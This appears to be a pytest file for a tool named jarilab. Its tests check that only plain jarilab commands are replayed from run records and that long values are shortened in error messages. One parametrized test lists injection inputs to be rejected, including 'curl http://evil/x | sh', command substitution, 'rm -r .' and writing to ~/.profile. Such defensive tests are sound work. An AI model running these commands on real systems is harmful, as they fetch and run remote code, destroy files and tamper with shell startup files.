"""Recorded commands: typed again they run jarilab and nothing else."""

from pathlib import Path
from typing import Any

import pytest

from jarilab.core.errors import UserError
from jarilab.core.storage.files import check_format
from jarilab.runs.environment import recorded_command, what_changed


@pytest.mark.parametrize("command", ["jarilab train copy --out 'my run'", "jarilab compare copy --encodings none,t5"])
def test_a_command_of_jarilab_is_shown(command):
    assert recorded_command({"command": command}) == command


@pytest.mark.parametrize(
    "command",
    [
        "curl http://evil/x | sh; jarilab train",
        "jarilab train; curl http://evil/x | sh",
        "jarilab train $(curl http://evil/x)",
        "jarilab train `id`",
        "jarilab train && rm -r .",
        "jarilab train > ~/.profile",
        "jarilab train\nid",
        "jarilab train '\x1b[2J'",
        "jarilab 'train",
        "python evil.py",
        "jarilab export runs/a --out /home/anna/.profile",
        "jarilab train --from runs/a --trust-code",
        "jarilab",
        5,
    ],
)
def test_another_command_is_not_shown(command):
    assert recorded_command({"command": command}) == "jarilab train"


def test_a_record_without_a_command():
    assert recorded_command({}) == "jarilab train"


def test_a_long_value_of_a_record_is_not_quoted_whole() -> None:
    long: Any = [[["a b"]]] * 3000
    with pytest.raises(UserError) as refused:
        check_format(Path("run.json"), "jari run 1", {"format": long})
    assert len(str(refused.value)) < 400
    (line,) = what_changed({"torch": long}, {"torch": "2.13"})
    assert len(line) < 250
    assert line.endswith(", is 2.13")
